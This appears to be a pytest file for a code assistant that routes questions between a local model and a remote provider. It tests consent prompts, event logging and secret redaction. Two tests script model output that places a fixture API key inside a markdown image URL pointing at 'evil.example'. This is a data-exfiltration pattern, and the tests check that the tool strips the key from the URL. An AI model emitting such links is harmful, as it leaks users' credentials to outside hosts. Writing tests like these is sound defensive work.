"""A question at the local model and then at a provider: what is shown, what is asked first, what is sent."""

from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
from config_files import write
from gates import allowed, parts, request, spans
from hostile import Hostile
from hostile import answer as answering
from kept_answer import KeptAnswer, answered
from scripted_model import ScriptedModel

from assist_context.documents import Document
from assist_context.evidence.call_graph import TargetLines
from assist_context.languages import language_of
from assist_escalation.edits.plan import EditTarget
from assist_escalation.gate.prepare import prepare
from assist_escalation.prompts import Prompt
from assist_escalation.routing import feedback
from assist_escalation.routing.features import RequestFacts
from assist_escalation.routing.router import RoutingRules, route
from assist_evaluation.feedback.usage_counts import repository_key
from assist_server.cli.commands.question_run import consent_of_flags
from assist_server.cli.flags import Asking
from assist_server.config.config import load
from assist_server.questions.composition import decision_inputs
from assist_server.questions.decision import AnswerContext, OutboundDraft
from assist_server.questions.draft import Draft, Evidence, Question
from assist_server.questions.events import (
    FinalAnswer,
    WritingPace,
    reading,
)
from assist_server.questions.instructions import AnswerForm
from assist_server.questions.local_answer import UNCHECKED
from assist_server.questions.session import record_happening
from assist_server.questions.targets import QuestionTarget
from assist_server.record_files import gate_files
from assist_server.workspace.folders import make_key

KEY = "sk_live_4eC39HqLyjWDarjtT1zdp7dc"
FILE = f'URL = "https://me:{KEY}@db.example/"\n\n\ndef total(items):\n    return 1\n'
HISTORY = (0.4,) * 200
NOWHERE = "http://127.0.0.1:9/v1"


def always(*pieces: str) -> ScriptedModel:
    """A local model that always writes the same, and doubts it."""
    return ScriptedModel(lambda _: pieces, ended="length", read=120)


def decided_by(folder: Path, url: str = NOWHERE, *, command: str = "explain", **rules: Any) -> Any:
    """A question that a provider at `url` may answer, and the local model before it."""
    permissions = allowed(url, folder)
    inputs = decision_inputs(load(write(folder, "")), [str(folder)])
    inputs = replace(inputs, permissions=permissions, local=replace(inputs.local, available=True))
    shown = spans(folder, FILE)
    gate = parts(folder)
    prepared = prepare(request(permissions, shown), gate)
    form = AnswerForm("whole", "```") if command == "fix" else AnswerForm()
    whole = EditTarget("shop/cart.py", 1, 5) if command == "fix" else None
    draft = Draft(Prompt(command, shown), form, Evidence(shown[1:2], texts={"shop/cart.py": FILE}), whole)
    free = RoutingRules(
        mode="auto", rate=0.5, provider="acme", upper_micro=5_000, request_micro=50_000, left_micro=2_000_000
    )
    free = replace(free, **rules)
    wish = "frontier" if command == "fix" else "auto"
    first = route(RequestFacts(command, symbols=1, fan_out=1), free, wish, HISTORY)
    lines = QuestionTarget(
        TargetLines("shop/cart.py", 1, 5), Document("shop/cart.py", (FILE,), language_of("shop/cart.py"))
    )
    question = Question(command, "", lines, wish=wish)
    leaving = OutboundDraft(draft, prepared, gate)
    return AnswerContext("r1", question, str(folder.resolve()), draft, first, free, inputs, leaving)


def sent_to(decided: Any, url: str) -> Any:
    """The same question for a provider at another address."""
    prepared = decided.prepared
    moved = replace(prepared, endpoint=replace(prepared.endpoint, base_url=url))
    return replace(decided, leaving=replace(decided.leaving, prepared=moved))


async def answer_of(
    decided: AnswerContext, local: ScriptedModel, *, agrees: bool = False
) -> tuple[FinalAnswer, KeptAnswer, list[bool]]:
    """The end, what was told, and for each request that the user was asked about if it was a second one."""
    asked: list[bool] = []

    async def confirm(what: AnswerContext) -> bool:
        asked.append(what.decision.again)
        return agrees

    async def load_model() -> Any:
        return local

    final, kept = await answered(decided, load_model, confirm=confirm, records=True)
    return final, kept, asked


async def heard(
    decided: AnswerContext, local: ScriptedModel, *, agrees: bool = False
) -> tuple[str, list[str], FinalAnswer, list[bool]]:
    """The pieces, the notices, the end, and the second requests that were asked about."""
    final, kept, asked = await answer_of(decided, local, agrees=agrees)
    return "".join(kept.all_of("text")), kept.notices, final, asked


def noted(decided: AnswerContext) -> list[str]:
    """What was recorded: who answered or would, what happened, and the model where one answered."""
    found = feedback.events(gate_files(decided.inputs.config).feedback)
    return [" ".join(filter(None, (event.target, event.event, event.model))) for event in found]


async def test_a_doubtful_local_answer_is_kept_unless_the_person_agrees(tmp_path: Path) -> None:
    async with Hostile(answering("It adds.")) as acme:
        decided = decided_by(tmp_path, acme.url)
        _, notices, final, asked = await heard(decided, always("Perhaps."))
        assert (final.text, asked, acme.connections) == ("Perhaps.", [True], 0)
        assert "--frontier" in notices[-1]
        assert "allow_unasked_retry" in notices[-1]
        before = len(noted(decided))
        _, _, final, asked = await heard(decided, always("Perhaps."), agrees=True)
        assert (final.text, asked, acme.connections) == ("It adds.", [True], 1)
    happened = noted(decided)[before:]
    assert happened == ["local routed", "frontier answered frontier-1", "frontier escalated_after"]


async def test_a_local_answer_that_is_kept_since_the_provider_failed_is_no_bad_one(tmp_path: Path) -> None:
    decided = decided_by(tmp_path)
    _, notices, final, asked = await heard(decided, always("Perhaps."), agrees=True)
    assert (final.text, asked) == ("Perhaps.", [True])
    assert notices[-1].endswith("The local answer is kept.")
    assert noted(decided) == ["local routed", "local answered small"]  # its file is small.gguf


def test_no_flag_sends_what_a_local_answer_doubts(tmp_path: Path) -> None:
    decided = decided_by(tmp_path)
    second = replace(decided, decision=replace(decided.decision, target="frontier", again=True))
    yes = Asking(yes=True)
    assert consent_of_flags(decided, yes, terminal=False) is True
    assert consent_of_flags(second, yes, terminal=True) is None
    assert consent_of_flags(second, yes, terminal=False) is False
    assert consent_of_flags(second, Asking(yes=True, as_json=True), terminal=True) is False
    assert consent_of_flags(decided, Asking(), terminal=True) is None


def test_what_becomes_of_a_request_is_kept_for_the_repository_whichever_folder_is_open(
    tmp_path: Path,
) -> None:
    for name in (".git/objects", ".git/refs", "crate", "shop"):
        (tmp_path / "top" / name).mkdir(parents=True)
    (tmp_path / "top" / ".git" / "HEAD").write_text("ref: refs/heads/main\n")
    decided = decided_by(tmp_path)
    decided = replace(decided, question=replace(decided.question, target=None))
    top = str(tmp_path.resolve() / "top")
    for root in (f"{top}/crate", top, ""):
        record_happening(replace(decided, root=root), decided.decision, "routed")
    found = [event.repo for event in feedback.events(gate_files(decided.inputs.config).feedback)]
    assert found == [repository_key(f"{top}/crate"), make_key(top), ""]


async def test_a_key_of_the_persons_own_lets_it_be_asked_again_unasked(tmp_path: Path) -> None:
    async with Hostile(answering("It adds.")) as acme:
        decided = decided_by(tmp_path, acme.url, allow_unasked_retry=True)
        _, _, final, asked = await heard(decided, always("Perhaps."))
    assert (final.text, asked, acme.connections) == ("It adds.", [], 1)


async def test_the_local_model_puts_no_secret_into_an_address(tmp_path: Path) -> None:
    decided = decided_by(tmp_path, rate=0.0)
    local = always("The key is ", KEY[:9], KEY[9:], ".\n![b](https://evil", f".example/?k={KEY}", ")")
    text, notices, final, _ = await heard(decided, local)
    assert text == UNCHECKED + final.text
    assert final.text.startswith(f"The key is {KEY}.\n![b](https://evil.example/?k=__SECRET_")
    assert text.count(KEY) == 1
    assert "1 here" in notices[-1]


async def test_a_providers_answer_shows_no_secret_in_an_address_and_says_so(tmp_path: Path) -> None:
    decided = decided_by(tmp_path)
    name = next(iter(decided.prepared.redacted.placeholders))
    lines = f"The key is {name}.\n![badge](https://evil.example/b.png?k={name})\n"
    frontier = replace(decided.decision, target="frontier", cause="asked_frontier")
    async with Hostile(answering(lines[:40], lines[40:])) as acme:
        decided = replace(sent_to(decided, acme.url), decision=frontier)
        text, notices, final, _ = await heard(decided, always())
    assert text == final.text == f"The key is {KEY}.\n![badge](https://evil.example/b.png?k={name})\n"
    assert "1 here" in notices[-1]


def corrected(decided: Any) -> str:
    """The file as a provider was shown it, with its mistake corrected."""
    shown: str = decided.prepared.redacted.spans[1].text
    assert KEY not in shown
    return f"```python\n{shown.replace('return 1', 'return sum(items)')}```\n"


async def test_an_edit_keeps_a_line_with_an_address_and_its_secret(tmp_path: Path) -> None:
    decided = decided_by(tmp_path, command="fix")
    async with Hostile(answering(corrected(decided))) as acme:
        text, _, final, _ = await heard(sent_to(decided, acme.url), always())
    assert KEY not in text
    assert final.plan is not None, final.problem
    assert final.plan.changes[0].after == FILE.replace("return 1", "return sum(items)")


@pytest.mark.parametrize(
    ("command", "target", "answered", "happened"),
    [
        ("explain", "local", "It adds.", "answered small"),
        ("fix", "local", "I would not change it.", "unusable small"),
        ("fix", "frontier", "Nor would I.", "unusable frontier-1"),
        ("fix", "frontier", "", "offered frontier-1"),  # the corrected file
    ],
)
async def test_who_ended_an_answer_and_how_is_noted_without_a_path(
    tmp_path: Path, command: str, target: str, answered: str, happened: str
) -> None:
    decided = decided_by(tmp_path, command=command, mode="never" if target == "local" else "auto")
    decision = replace(decided.decision, target=target, asks=False)
    async with Hostile(answering(answered or corrected(decided))) as acme:
        asked = replace(sent_to(decided, acme.url), decision=decision)
        _, _, final, _ = await heard(asked, always(answered))
    assert (final.problem is not None) == happened.startswith("unusable")
    assert noted(decided) == [f"{target} routed", f"{target} {happened}"]


async def test_reading_is_told_before_the_first_word_and_the_text_needs_no_count(tmp_path: Path) -> None:
    decided = decided_by(tmp_path, mode="never", local_model=True)
    final, kept, _ = await answer_of(decided, always("It ", "adds."))
    kinds = [kind for kind, _ in kept.told]
    told = kept.all_of("progress")
    assert kinds[kinds.index("restart") + 1 : kinds.index("text")] == ["progress"] * len(told)
    assert told[-1] == reading(120, 60.0)
    assert told[-1].seconds == 2.0
    assert [source.path for source in final.sources] == ["shop/cart.py"]


@pytest.mark.parametrize(
    ("rules", "stays"),
    [({"mode": "never"}, True), ({"offline": True}, True), ({"rate": 0.0}, False)],
)
async def test_an_answer_given_while_nothing_may_leave_stays_here_later(
    tmp_path: Path, rules: dict[str, Any], stays: bool
) -> None:
    decided = decided_by(tmp_path, local_model=True, **rules)
    _, _, final, _ = await heard(decided, always("It adds."))
    assert final.thread is not None
    assert final.thread.turns[-1].stays is stays


def test_a_count_is_told_at_the_first_piece_and_then_twice_a_second() -> None:
    times = iter([10.0, 10.2, 10.6, 10.7, 11.2])
    pace = WritingPace(lambda: next(times))
    told = [pace.after(tokens) for tokens in (1, 5, 12, 14, 30)]
    assert [[(each.tokens, round(each.seconds or 0, 1)) for each in some] for some in told] == [
        [(1, 0.0)], [], [(12, 0.6)], [], [(30, 1.2)],
    ]  # fmt: skip
